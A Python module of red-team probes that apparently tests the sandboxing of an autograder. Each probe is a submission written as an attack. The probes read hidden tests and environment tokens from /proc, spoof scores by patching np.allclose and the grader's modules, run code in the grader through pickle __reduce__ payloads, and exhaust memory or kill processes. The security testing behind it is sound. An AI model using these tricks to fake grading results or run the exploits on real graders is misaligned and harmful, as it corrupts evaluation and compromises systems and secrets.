"""Attacks on a grader, as answers to the first assignment of ``otter_assignment.py``, for ``redteam.py``.

All are harmless: they look for canaries that the benchmark has laid out, and leave marks in its own folder. A
probe knows the grader well. ``FACTS`` holds the paths that an attacker would have to guess, and each probe tries
what is known to work on either grader.
"""

from __future__ import annotations

from probe import FULL_MARKS, RIGHT, WRONG, Control, Probe
from traps import PRINTED_BYTES

__all__ = ["CONTROLS", "PROBES"]

CONTROLS = (
    Control("a right answer", "square", RIGHT, is_right=True),
    Control("a wrong answer", "square", WRONG, is_right=False),
)

SAYS = "\ndef square(x):\n    raise ValueError(found)\n"

ANCESTORS = """
import os
from pathlib import Path

ancestors = []
pid = os.getppid()
while pid > 1 and pid != FACTS["benchmark"]:
    ancestors.append(pid)
    try:
        status = Path(f"/proc/{pid}/status").read_text()
        pid = int(status.split("PPid:")[1].split()[0])
    except OSError:
        break
"""

MARK = """
import os, pickle, sys

class Mark:
    def __reduce__(self):
        return exec, (f"import os; open({FACTS['open'] + '/mark'!r}, 'w').write(str(os.getpid()))",)
"""

PROBES = (
    Probe(
        "reads the hidden tests and raises them in a public check",
        "a word of the hidden test stands in the results",
        lambda seen: seen.secrets["tests"] in seen.text,
        """
from pathlib import Path

found = ""
for folder in ("tests", FACTS["tests"]):
    try:
        found += "".join(path.read_text() for path in Path(folder).iterdir())
    except OSError as error:
        found += repr(error)
"""
        + SAYS,
    ),
    Probe(
        "returns what the test's own frame holds as expected",
        FULL_MARKS,
        lambda seen: seen.has_full_marks,
        """
import sys

def square(x):
    frame = sys._getframe()
    while frame is not None and "expected" not in frame.f_locals:
        frame = frame.f_back
    return 0 * x if frame is None else frame.f_locals["expected"]
""",
    ),
    Probe(
        "replaces the comparison that tests use",
        FULL_MARKS,
        lambda seen: seen.has_full_marks,
        "import numpy as np\n\nnp.allclose = lambda *arguments, **options: True\n" + WRONG,
    ),
    Probe(
        "replaces the test runner and the grader's modules",
        FULL_MARKS,
        lambda seen: seen.has_full_marks,
        """
import sys

for name, module in list(sys.modules.items()):
    if name == "otter.test_files.exception_test":
        module.test_case.call_func = lambda self, environment: None
    if name == "autograder.sandbox.worker.serving":
        module.send_frame = lambda connection, frame, send=module.send_frame: send(
            connection, type(frame)(frame.nonce, {**frame.body, "score": 5.0, "outcome": "ok"}, frame.arrays)
        )
"""
        + WRONG,
    ),
    Probe(
        "shows the hidden test's input in a public row",
        "a number of the hidden test stands in the results",
        lambda seen: seen.secrets["input"] in seen.text,
        """
import glob, sys

places = [FACTS["open"] + "/input", "/dev/shm/input", "/tmp/input", "input"]

def square(x):
    for name in glob.glob(places[0]):
        raise ValueError(open(name).read())
    large = [int(value) for value in x if value > 1e5]
    frame = sys._getframe() if large else None
    while frame is not None:
        for row in getattr(frame.f_locals.get("self"), "test_case_results", []):
            row.message = row.test_case.success_message = f"the hidden test asks for {large}"
        frame = frame.f_back
    for name in places[:1] if large else []:
        try:
            open(name, "w").write(str(large))
        except OSError:
            pass
    return x * x
""",
    ),
    Probe(
        "runs code in the grader's process, by what it sends as results",
        "a file that holds the process id of the grader",
        lambda seen: seen.files.get("mark") == str(seen.grader),
        MARK
        + """
dump = pickle.dump
pickle.dump = lambda results, file, *arguments, **options: dump(Mark(), file)
if "ipykernel" not in sys.modules:  # a worker's connection to this kit's grader
    os.write(3, pickle.dumps(Mark()))
"""
        + RIGHT,
    ),
    Probe(
        "runs code in the grader's process, by a log message",
        "a file that holds the process id of the grader",
        lambda seen: seen.files.get("mark") == str(seen.grader),
        MARK
        + """
import logging, logging.handlers, socket, struct, time

loggers = [logging.root, *logging.root.manager.loggerDict.values()]
handlers = [handler for logger in loggers for handler in getattr(logger, "handlers", [])]
for handler in handlers:
    if isinstance(handler, logging.handlers.SocketHandler):
        message = pickle.dumps(Mark())
        with socket.create_connection((handler.host, handler.port)) as connection:
            connection.sendall(struct.pack(">L", len(message)) + message)
            time.sleep(2)
"""
        + RIGHT,
    ),
    Probe(
        "ends its process",
        "the grader writes no results",
        lambda seen: seen.score is None,
        "import os\n\n" + RIGHT + "\nos._exit(0)\n",
    ),
    Probe(
        "sends a signal to the processes that started it",
        "the grader writes no results",
        lambda seen: seen.score is None,
        ANCESTORS
        + """
import signal

for pid in ancestors:
    try:
        os.kill(pid, signal.SIGUSR1)
    except OSError:
        pass
"""
        + RIGHT,
    ),
    Probe(
        "prints 64 MB",
        "the grader's own memory grows by half of that or more",
        lambda seen: seen.grader_growth > PRINTED_BYTES / 2,
        "\ndef square(x):\n"
        f"    for _ in range({PRINTED_BYTES // 2**20} if not globals().get('printed') else 0):\n"
        "        print('x' * 2**20)\n"
        "    globals()['printed'] = True\n"
        "    return x * x\n",
    ),
    Probe(
        "never comes to an end",
        "no results after 60 s",
        lambda seen: seen.status is None and seen.score is None,
        "import time\n\ndef square(x):\n    while True:\n        time.sleep(0.1)\n",
        is_contained=True,
    ),
    Probe(
        "uses half a gigabyte more memory than this kit's limit",
        "its process was seen with that much",
        lambda seen: seen.largest_process >= seen.memory,
        """
import time
import numpy as np

kept = [np.ones(2**23) for _ in range(FACTS["memory"] // 2**26 + 1)]
time.sleep(1)
del kept
"""
        + RIGHT,
        is_contained=True,
    ),
    Probe(
        "starts a process that outlives the grading",
        "the process runs after the grader has ended",
        lambda seen: seen.survivors > 0,
        'import subprocess\n\nsubprocess.Popen(["sleep", FACTS["sleep"]], start_new_session=True)\n' + RIGHT,
        is_contained=True,
    ),
    Probe(
        "writes outside its folder",
        "the file is there",
        lambda seen: "written" in seen.files,
        'open(FACTS["open"] + "/written", "w").write("here")\n' + RIGHT,
        is_contained=True,
    ),
    Probe(
        "reads another submission and raises it in a public check",
        "a word of the other submission stands in the results",
        lambda seen: seen.secrets["neighbour"] in seen.text,
        'try:\n    found = open(FACTS["neighbour"]).read()\nexcept OSError as error:\n    found = repr(error)\n' + SAYS,
        is_contained=True,
    ),
    Probe(
        "reads the grader's environment and raises it in a public check",
        "the value of a variable stands in the results",
        lambda seen: seen.secrets["environment"] in seen.text,
        ANCESTORS
        + """
variables = [f"{name}={value}" for name, value in os.environ.items()]
for pid in ancestors:
    try:
        variables += Path(f"/proc/{pid}/environ").read_text().split(chr(0))
    except OSError:
        pass
found = [variable for variable in variables if variable.startswith("COURSE_TOKEN=")]
"""
        + SAYS,
        is_contained=True,
    ),
    Probe(
        "opens a connection to a server",
        "the server was reached",
        lambda seen: seen.connections > 0,
        'import socket\n\nsocket.create_connection(("127.0.0.1", FACTS["port"]), timeout=5).close()\n' + RIGHT,
    ),
)
